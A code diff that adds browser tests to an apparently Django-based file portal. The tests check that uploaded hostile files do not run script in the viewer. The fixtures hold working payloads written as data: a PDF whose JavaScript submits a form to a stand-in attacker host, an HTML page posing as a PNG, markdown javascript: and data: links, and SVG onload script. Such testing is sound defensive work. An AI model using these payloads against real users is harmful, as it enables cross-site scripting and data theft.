@@ -412,3 +412,80 @@ def test_concurrent_conversions_of_one_version_make_one_rendition(alice, monkeyp
     stored = [name for name in derived_storage().listdir("renditions")[1] if re.match(rf"{pk}[._]", name)]
     assert stored == [rows[0].name.split("/")[-1]]    # no loser's file left behind
     assert set(results) <= {DerivedState.READY, DerivedState.PENDING}
+
+
+# --- in Chromium: nothing of the file runs as the portal ------------------------------------------
+
+def pdf_with_javascript() -> bytes:
+    """A one-page PDF whose OpenAction and page action run JavaScript (a correct xref, so pdf.js reads it)."""
+    script = b"app.alert('pdf-js-ran'); this.submitForm('https://evil.example/');"
+    objects = [
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/AA<</O 4 0 R>>>>",
+        b"<</S/JavaScript/JS(" + script + b")>>",
+    ]
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def _watch_dialogs(page) -> list[str]:
+    dialogs: list[str] = []
+
+    def dismiss(dialog):
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", dismiss)
+    return dialogs
+
+
+@pytest.fixture
+def hostile_files(alice):
+    space = space_create(actor=alice, name="Hostile")
+    files = Files(alice, space)
+    nodes = {
+        "js.pdf": files.node("/js.pdf", pdf_with_javascript()),
+        "html.png": files.node("/html.png", b"<html><head><title>pwned</title></head><body>"
+                                            b"<script>window.__pwned = 1; alert('png-ran')</script></body></html>"),
+        "links.md": files.node("/links.md", b"[click me](javascript:alert('md-ran'))\n\n"
+                                            b"<img src=x onerror=alert('img-ran')>\n\n"
+                                            b"[data](data:text/html,<script>alert('data-ran')</script>)\n"),
+        "logo.svg": files.node("/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
+                                            b'onload="alert(\'svg-ran\')"><script>alert(\'svg-ran\')</script></svg>'),
+    }
+    for node in nodes.values():
+        scanned(node.current_version)
+    return nodes
+
+
+@pytest.mark.django_db(transaction=True)
+def test_in_chromium_no_hostile_file_runs_script_in_the_viewer(signed_in_page, alice, hostile_files,
+                                                               console_errors, settings, live_server):
+    from playwright.sync_api import expect
+
+    settings.PUBLIC_URL = live_server.url
+    page = signed_in_page(alice)
+    dialogs = _watch_dialogs(page)
+    pdf = hostile_files["js.pdf"]
+    page.goto(f"{item(pdf)}/view")
+    expect(page.locator(".pdf-view")).to_have_attribute("data-rendered", "1")   # drawn by pdf.js, its script not run
+    page.goto(f"{item(hostile_files['logo.svg'])}/view")
+    expect(page.locator("[data-zoom-image]")).to_have_js_property("complete", True)
+    page.goto(f"{item(hostile_files['links.md'])}/view")
+    link = page.locator("#viewer-markdown").get_by_text("click me")
+    expect(link).to_be_visible()
+    assert page.locator("#viewer-markdown a[href^='javascript'], #viewer-markdown img").count() == 0
+    link.click()
+    page.goto(f"{item(hostile_files['html.png'])}/view/bytes")   # the "image" opened on its own
+    assert page.title() != "pwned" and page.evaluate("typeof window.__pwned") == "undefined"
+    page.goto("/")
+    assert dialogs == [], dialogs
